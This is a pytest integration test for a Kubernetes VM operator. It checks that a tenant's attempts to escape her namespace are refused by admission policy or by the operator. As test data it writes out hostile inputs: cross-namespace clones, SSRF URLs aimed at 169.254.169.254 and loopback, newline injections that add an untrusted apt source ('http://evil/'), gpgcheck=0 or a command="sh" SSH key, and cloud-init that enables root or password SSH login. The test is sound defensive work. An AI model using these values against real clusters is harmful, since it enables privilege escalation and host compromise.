"""Issue 32 acceptance: a tenant tries to use the operator to reach what the tenant may not reach.

The tenant is ``alice``: RBAC lets her write UDSVirtualMachines and pools in her own namespace and nothing
else (no Secret reads, no clone rights anywhere). Every request she makes is the test's admin client with
``Impersonate-User: alice``, so the real API server authenticates, authorises and admits it as her. The
chart's own ValidatingAdmissionPolicy (rendered by the real ``helm``) is installed; the operator runs as a
real process. Each attack must be refused with a message that says why, and leave nothing behind: no VM
stored when admission refuses it, and no child (DataVolume, VirtualMachine, cloud-init Secret) when the
operator refuses one that admission had no reason to stop.
"""

from __future__ import annotations

import itertools
import secrets
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from release import deploy_manifests
from tests.integration.operator_fixtures import (
    SSH_KEY,
    api,
    condition,
    dv_path,
    kv_path,
    release_pvcs,
    running_operator,
    status_of,
    udsvm,
    vm_path,
)
from tests.integration.operator_harness import Api, OperatorProcess
from tests.integration.test_deploy_helm import helm_path
from tests.kube_helpers import wait_for
from uds_vm_operator.cli.goldenimage import golden_image_manifests

__all__ = ["api"]  # fixtures used by name

TENANT = "alice"
AS_TENANT = {"Impersonate-User": TENANT}
POLICY_KINDS = ("ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding")
VAP = "/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies"
VAPB = "/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicybindings"
SHA = "sha256:" + "ab" * 32
POOL_PATH = "/apis/uds.dev/v1alpha1/namespaces/{ns}/udsvirtualmachinepools"
REFUSED_CODES = (400, 403, 422)


def grant(api: Api, namespace: str, name: str, rules: list[dict[str, Any]], user: str) -> None:
    """A Role with ``rules`` in ``namespace``, bound to ``user``."""
    rbac = f"/apis/rbac.authorization.k8s.io/v1/namespaces/{namespace}"
    role = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role", "metadata": {"name": name}}
    api.create({**role, "rules": rules}, f"{rbac}/roles")
    binding = {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "RoleBinding",
        "metadata": {"name": name},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": name},
        "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": user}],
    }
    api.create(binding, f"{rbac}/rolebindings")


def _namespace(api: Api, prefix: str) -> str:
    name = f"{prefix}-{secrets.token_hex(3)}"
    api.create({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": name}}, "/api/v1/namespaces")
    return name


@pytest.fixture
def world(api: Api) -> Iterator[dict[str, str]]:
    """The tenant's namespace, a victim namespace holding a disk, a DataSource and a Secret, and alice."""
    tenant_ns, victim_ns = _namespace(api, "tenant"), _namespace(api, "victim")
    rules = [
        {
            "apiGroups": ["uds.dev"],
            "resources": ["udsvirtualmachines", "udsvirtualmachinepools"],
            "verbs": ["get", "list", "create", "update", "patch"],
        }
    ]
    grant(api, tenant_ns, "vm-author", rules, TENANT)
    for ns in (tenant_ns, victim_ns):
        api.create(
            {
                "apiVersion": "v1",
                "kind": "Secret",
                "metadata": {"name": "db-creds", "namespace": ns},
                "stringData": {"password": "s3cret-Passw0rd", "accessKeyId": "a", "secretKey": "b"},
            },
            f"/api/v1/namespaces/{ns}/secrets",
        )
    api.create(
        {
            "apiVersion": "v1",
            "kind": "PersistentVolumeClaim",
            "metadata": {"name": "db-disk", "namespace": victim_ns},
            "spec": {"accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "1Gi"}}},
        },
        f"/api/v1/namespaces/{victim_ns}/persistentvolumeclaims",
    )
    api.create(
        {
            "apiVersion": "cdi.kubevirt.io/v1beta1",
            "kind": "DataSource",
            "metadata": {"name": "golden", "namespace": victim_ns},
            "spec": {"source": {"pvc": {"name": "db-disk", "namespace": victim_ns}}},
        },
        f"/apis/cdi.kubevirt.io/v1beta1/namespaces/{victim_ns}/datasources",
    )
    objects = [
        o
        for o in deploy_manifests.render_chart(helm_path(), "--set", f"watchNamespaces={{{tenant_ns}}}")
        if o["kind"] in POLICY_KINDS
    ]
    assert len(objects) == 4, "two policies (references, the operator's own writes) and their bindings"
    policies = [o for o in objects if o["kind"] == POLICY_KINDS[0]]
    bindings = [o for o in objects if o["kind"] == POLICY_KINDS[1]]
    for policy in policies:
        api.create(policy, VAP)
    for binding in bindings:
        api.create(binding, VAPB)
    try:
        yield {"tenant": tenant_ns, "victim": victim_ns}
    finally:
        for binding in bindings:
            api.delete(f"{VAPB}/{binding['metadata']['name']}")
        for policy in policies:
            api.delete(f"{VAP}/{policy['metadata']['name']}")
        for ns in (tenant_ns, victim_ns):
            # The victim's db-disk keeps kubernetes.io/pvc-protection without its controller (not in this
            # control plane): release it, or the namespace stays Terminating and later tests wait on it.
            release_pvcs(api, ns)
            api.delete(f"/api/v1/namespaces/{ns}")


def as_tenant(api: Api, manifest: dict[str, Any], collection: str) -> tuple[int, Any]:
    """Create ``manifest`` as alice (any answer accepted; the caller judges it)."""
    return api.call(
        "POST",
        collection,
        manifest,
        params={"fieldManager": "alice", "fieldValidation": "Strict"},
        expect=range(200, 600),
        headers=AS_TENANT,
    )


def message_of(body: Any) -> str:
    return str((body or {}).get("message", "")) if isinstance(body, dict) else str(body)


def wait_admitted_policy(api: Api, tenant_ns: str, victim_ns: str) -> None:
    """Policies are loaded asynchronously: wait until a known-bad request is refused by this one."""
    probe = udsvm("probe", tenant_ns, source={"pvc": {"name": "db-disk", "namespace": victim_ns}})
    probe["spec"].pop("disk")

    def refused() -> bool:
        code, body = as_tenant(api, probe, vm_path(tenant_ns))
        if code in (200, 201):
            api.delete(vm_path(tenant_ns, "probe"))
            return False
        return "may not clone from namespace" in message_of(body)

    wait_for(refused, 60, 0.5, what="the chart's ValidatingAdmissionPolicy in force")


def admission_attacks(tenant: str, victim: str) -> list[tuple[str, dict[str, Any], str, str]]:
    """(attack, manifest, collection, words the refusal must contain) refused before anything is stored."""

    def vm(name: str, **spec: Any) -> dict[str, Any]:
        return udsvm(name, tenant, **spec)

    clone_disk = {"virtualSize": "10Mi"}
    windows = {"os": "windows", "cloudInit": None}

    def win(name: str, **windows_spec: Any) -> dict[str, Any]:
        manifest = vm(name, source={"blank": {}}, windows=windows_spec, **windows)
        manifest["spec"].pop("cloudInit")
        return manifest

    hostile_update = {"sshAuthorizedKeys": [SSH_KEY]}
    pool = {
        "apiVersion": "uds.dev/v1alpha1",
        "kind": "UDSVirtualMachinePool",
        "metadata": {"name": "fleet", "namespace": tenant},
        "spec": {
            "replicas": 1,
            "template": {
                "spec": {
                    "source": {"dataSource": {"name": "golden", "namespace": victim}},
                    "disk": clone_disk,
                    "resources": {"cpu": 1, "memory": "1Gi"},
                    "cloudInit": {"sshAuthorizedKeys": [SSH_KEY]},
                }
            },
        },
    }
    vms = vm_path(tenant)
    return [
        (
            "clone another namespace's PVC",
            vm("a1", source={"pvc": {"name": "db-disk", "namespace": victim}}, disk=clone_disk),
            vms,
            f"may not clone from namespace {victim}",
        ),
        (
            "clone another namespace's DataSource",
            vm("a2", source={"dataSource": {"name": "golden", "namespace": victim}}, disk=clone_disk),
            vms,
            f"may not clone from namespace {victim}",
        ),
        (
            "Windows driver media cloned from another namespace",
            win("a3", driverMedia={"dataSource": {"name": "golden", "namespace": victim}}),
            vms,
            f"may not clone from namespace {victim}",
        ),
        (
            "pool template cloning another namespace's DataSource",
            pool,
            POOL_PATH.format(ns=tenant),
            f"may not clone from namespace {victim}",
        ),
        (
            "Administrator password from a Secret alice may not read",
            win("a5", adminPasswordSecretRef={"name": "db-creds", "key": "password"}),
            vms,
            "is not readable by alice",
        ),
        (
            "http credentials from a Secret alice may not read (sent to her server)",
            vm("a6", source={"http": {"url": "https://img.example.com/x.qcow2", "secretRef": "db-creds"}}),
            vms,
            "is not readable by alice",
        ),
        (
            "s3 credentials from a Secret alice may not read",
            vm("a7", source={"s3": {"url": "s3://bucket/x.qcow2", "secretRef": "db-creds"}}),
            vms,
            "is not readable by alice",
        ),
        (
            "a CA bundle from a ConfigMap alice may not read (trusted for her import)",
            vm("a13", source={"http": {"url": "https://img.example.com/x", "certConfigMap": "site-ca"}}),
            vms,
            "ConfigMap this VM names (site-ca) is not readable by alice",
        ),
        (
            "a sealed image record from a ConfigMap alice may not read",
            vm("a14", imageRecord="site-ca"),
            vms,
            "ConfigMap this VM names (site-ca) is not readable by alice",
        ),
        (
            "a second systemd line through autoUpdate.schedule",
            vm(
                "a8",
                cloudInit={**hostile_update, "autoUpdate": {"schedule": "*-*-* 03:00\nUnit=poweroff.target"}},
            ),
            vms,
            "schedule",
        ),
        (
            "a non-calendar schedule",
            vm("a9", cloudInit={**hostile_update, "autoUpdate": {"schedule": "every day at noon"}}),
            vms,
            "systemd calendar expression",
        ),
        (
            "a [trusted=yes] apt source through aptMirror",
            vm(
                "a10",
                cloudInit={
                    **hostile_update,
                    "autoUpdate": {"aptMirror": "http://m/debian\ndeb [trusted=yes] http://evil/ x main"},
                },
            ),
            vms,
            "aptMirror",
        ),
        (
            "gpgcheck=0 through yumMirror",
            vm("a11", cloudInit={**hostile_update, "autoUpdate": {"yumMirror": "http://m/el9\ngpgcheck=0"}}),
            vms,
            "yumMirror",
        ),
        (
            "a second authorized_keys line",
            vm("a12", cloudInit={"sshAuthorizedKeys": [SSH_KEY + '\ncommand="sh" ssh-ed25519 AAAA evil']}),
            vms,
            "sshAuthorizedKeys",
        ),
    ]


def operator_attacks(tenant: str) -> list[tuple[str, dict[str, Any], str]]:
    """(attack, VM, refusal reason): admitted (nothing in them names another namespace), refused by the
    operator before any child exists."""
    return [
        (
            "import from the cloud metadata service",
            udsvm(
                "o1",
                tenant,
                source={"http": {"url": "http://169.254.169.254/latest/meta-data/x", "checksum": SHA}},
            ),
            "PrivateSourceRefused",
        ),
        (
            "import from the node's loopback over s3",
            udsvm(
                "o2", tenant, source={"s3": {"url": "http://127.0.0.1:9000/bucket/disk.img", "checksum": SHA}}
            ),
            "PrivateSourceRefused",
        ),
        (
            "import from an in-cluster service name",
            udsvm(
                "o3",
                tenant,
                source={"http": {"url": "http://kube-dns.kube-system.svc:53/x", "checksum": SHA}},
            ),
            "PrivateSourceRefused",
        ),
        (
            "import from an IPv4-mapped IPv6 metadata address",
            udsvm(
                "o4", tenant, source={"http": {"url": "http://[::ffff:169.254.169.254]/x", "checksum": SHA}}
            ),
            "PrivateSourceRefused",
        ),
        (
            "sshd configuration through userData with a doubled slash",
            udsvm(
                "o5",
                tenant,
                cloudInit={
                    "sshAuthorizedKeys": [SSH_KEY],
                    "userData": "#cloud-config\nwrite_files:\n- path: /etc/ssh//sshd_config.d/01-open.conf\n"
                    "  content: PasswordAuthentication yes\n",
                },
            ),
            "InvalidSpec",
        ),
        (
            "sshd configuration through userData with a dot segment",
            udsvm(
                "o6",
                tenant,
                cloudInit={
                    "sshAuthorizedKeys": [SSH_KEY],
                    "userData": "#cloud-config\nwrite_files:\n- path: /etc/ssh/./sshd_config\n"
                    "  content: PermitRootLogin yes\n",
                },
            ),
            "InvalidSpec",
        ),
    ]


def nothing_created(api: Api, namespace: str, name: str) -> None:
    for path in (
        dv_path(namespace, f"{name}-dv"),
        kv_path(namespace, name),
        f"/api/v1/namespaces/{namespace}/secrets/{name}-cloudinit",
        f"/api/v1/namespaces/{namespace}/secrets/{name}-sysprep",
    ):
        assert api.get(path) is None, f"{path} exists"


def refused_status(
    api: Api, operator: OperatorProcess, namespace: str, name: str, reason: str
) -> dict[str, Any]:
    def refused() -> dict[str, Any] | None:
        status = status_of(api, namespace, name)
        ready = condition(status, "Ready") if status.get("conditions") else {}
        return status if ready.get("reason") == reason else None

    result: dict[str, Any] = wait_for(refused, 60, 0.3, what=f"{name} refused with {reason}")
    return result


def test_every_tenant_attack_is_refused_with_a_reason_and_creates_nothing(
    api: Api, world: dict[str, str], control_plane: Any, tmp_path: Path
) -> None:
    tenant, victim = world["tenant"], world["victim"]
    wait_admitted_policy(api, tenant, victim)
    refused: list[str] = []

    # The control: alice may write an ordinary VM, so every refusal below is about the attack, not her.
    benign = udsvm("benign", tenant)
    code, body = as_tenant(api, benign, vm_path(tenant))
    assert code == 201, body

    for attack, manifest, collection, words in admission_attacks(tenant, victim):
        code, body = as_tenant(api, manifest, collection)
        assert code in REFUSED_CODES, f"{attack}: admitted ({code})"
        assert words in message_of(body), f"{attack}: unclear refusal {message_of(body)!r}"
        name = manifest["metadata"]["name"]
        assert api.get(f"{collection}/{name}") is None, f"{attack}: stored anyway"
        refused.append(attack)

    # UPDATE is checked too: an admitted VM cannot be re-pointed at another namespace's disk.
    code, body = api.call(
        "PATCH",
        vm_path(tenant, "benign"),
        {"spec": {"source": {"http": None, "pvc": {"name": "db-disk", "namespace": victim}}}},
        content_type="application/merge-patch+json",
        expect=range(200, 600),
        headers=AS_TENANT,
    )
    assert code in REFUSED_CODES and f"may not clone from namespace {victim}" in message_of(body), body
    assert "pvc" not in (api.get(vm_path(tenant, "benign")) or {})["spec"]["source"]
    refused.append("re-point an admitted VM at another namespace's PVC")

    with running_operator(control_plane, tenant, tmp_path) as operator:
        for attack, manifest, reason in operator_attacks(tenant):
            code, body = as_tenant(api, manifest, vm_path(tenant))
            assert code == 201, f"{attack}: admission was expected to pass it to the operator: {body}"
            name = manifest["metadata"]["name"]
            status = refused_status(api, operator, tenant, name, reason)
            assert status["phase"] == "Failed"
            message = condition(status, "Ready")["message"]
            if reason == "PrivateSourceRefused":
                assert "ssrf.allowedSourceHosts" in message, message
            else:
                assert "sshd" in message or "/etc/ssh" in message, message
            nothing_created(api, tenant, name)
            refused.append(attack)

        # What admission cannot see: a VM the admin stored (say, before the policy existed) that clones from
        # a namespace which never granted cloning to the tenant's namespace. The operator refuses it.
        sneaked = udsvm(
            "sneaked",
            tenant,
            source={"dataSource": {"name": "golden", "namespace": victim}},
            disk={"virtualSize": "10Mi"},
        )
        api.create(sneaked, vm_path(tenant))
        status = refused_status(api, operator, tenant, "sneaked", "CrossNamespaceSourceNotGranted")
        message = condition(status, "Ready")["message"]
        assert (
            f"uds-vmctl golden-image rbac --image-namespace {victim} --consumer-namespace {tenant}" in message
        )
        nothing_created(api, tenant, "sneaked")
        refused.append("a stored cross-namespace clone the source namespace never granted")

        # The grant the message names admits it: the operator then creates the DataVolume.
        for manifest in golden_image_manifests(victim, [tenant])[1:]:
            plural = {"Role": "roles", "RoleBinding": "rolebindings"}[manifest["kind"]]
            api.create(manifest, f"/apis/rbac.authorization.k8s.io/v1/namespaces/{victim}/{plural}")
        pokes = iter(range(1_000_000))

        def cloned() -> dict[str, Any] | None:
            # The operator caches a grant answer for 30 s; a touch of the VM makes it look again after that.
            poke = {"metadata": {"annotations": {"uds-vm-operator.dev/test-poke": str(next(pokes))}}}
            api.merge(vm_path(tenant, "sneaked"), poke)
            return api.get(dv_path(tenant, "sneaked-dv"))

        dv = wait_for(cloned, 120, 2.0, what="the granted clone's DataVolume")
        assert dv["spec"]["sourceRef"] == {"kind": "DataSource", "name": "golden", "namespace": victim}

    print(f"tenant attacks tried and refused: {len(refused)}")
    for attack in refused:
        print(f"  refused: {attack}")
    assert len(refused) == len(admission_attacks(tenant, victim)) + 1 + len(operator_attacks(tenant)) + 1


def test_refusals_name_the_author_and_the_namespace(api: Api, world: dict[str, str]) -> None:
    """The policy's message is the tenant's only clue: it names who was refused and for which namespace."""
    tenant, victim = world["tenant"], world["victim"]
    wait_admitted_policy(api, tenant, victim)
    manifest = udsvm(
        "named", tenant, source={"pvc": {"name": "db-disk", "namespace": victim}}, disk={"virtualSize": "1Gi"}
    )
    code, body = as_tenant(api, manifest, vm_path(tenant))
    message = message_of(body)
    assert code in REFUSED_CODES
    assert TENANT in message and victim in message and "golden-image rbac" in message


def test_the_operators_identity_may_only_remove_a_finalizer_from_a_vm(
    api: Api, world: dict[str, str]
) -> None:
    """The operator may patch UDSVirtualMachines (to let a deleting pool member go, ADR 0018); the chart's
    own-writes policy keeps that right from rewriting anything of the user's. Its RBAC is granted here so the
    refusal below is admission's, not authorisation's."""
    tenant = world["tenant"]
    operator = f"system:serviceaccount:{deploy_manifests.NAMESPACE}:uds-vm-operator"
    as_operator = {"Impersonate-User": operator}
    rules = [{"apiGroups": ["uds.dev"], "resources": ["udsvirtualmachines"], "verbs": ["get", "patch"]}]
    grant(api, tenant, "operator-patch", rules, operator)
    vm = udsvm("member", tenant)
    vm["metadata"]["finalizers"] = ["uds.dev/release-children", "example.com/keep"]
    api.create(vm, vm_path(tenant))

    def patch_as_operator(patch: dict[str, Any]) -> tuple[int, Any]:
        return api.call(
            "PATCH",
            vm_path(tenant, "member"),
            patch,
            content_type="application/merge-patch+json",
            expect=range(200, 600),
            headers=as_operator,
        )

    cpus = itertools.cycle(range(2, 9))

    def policy_refuses() -> bool:
        # Each probe asks for another change: one the not-yet-loaded policy let through is not a no-op later.
        code, body = patch_as_operator({"spec": {"resources": {"cpu": next(cpus)}}})
        return code in REFUSED_CODES and "may only remove a finalizer" in message_of(body)

    wait_for(policy_refuses, 90, 0.5, what="the own-writes policy in force")
    before = api.get(vm_path(tenant, "member")) or {}
    rewrites = {
        "the spec": {"spec": {"resources": {"memory": "3Gi"}}},
        "a label": {"metadata": {"labels": {"uds.dev/pool": "other"}}},
        "an annotation": {"metadata": {"annotations": {"example.com/x": "y"}}},
        "the owners": {
            "metadata": {
                "ownerReferences": [{"apiVersion": "v1", "kind": "ConfigMap", "name": "x", "uid": "0-0-0"}]
            }
        },
        "an added finalizer": {
            "metadata": {"finalizers": ["uds.dev/release-children", "example.com/keep", "example.com/new"]}
        },
    }
    for what, patch in rewrites.items():
        code, body = patch_as_operator(patch)
        assert code in REFUSED_CODES, f"the operator rewrote {what} ({code})"
        assert "may only remove a finalizer" in message_of(body), f"{what}: {message_of(body)!r}"
    stored = api.get(vm_path(tenant, "member")) or {}
    assert stored["metadata"]["resourceVersion"] == before["metadata"]["resourceVersion"], "nothing written"
    assert stored["metadata"]["finalizers"] == ["uds.dev/release-children", "example.com/keep"]
    code, body = patch_as_operator({"metadata": {"finalizers": ["example.com/keep"]}})
    assert code == 200, body
    assert (api.get(vm_path(tenant, "member")) or {})["metadata"]["finalizers"] == ["example.com/keep"]
    api.merge(vm_path(tenant, "member"), {"metadata": {"finalizers": None}})
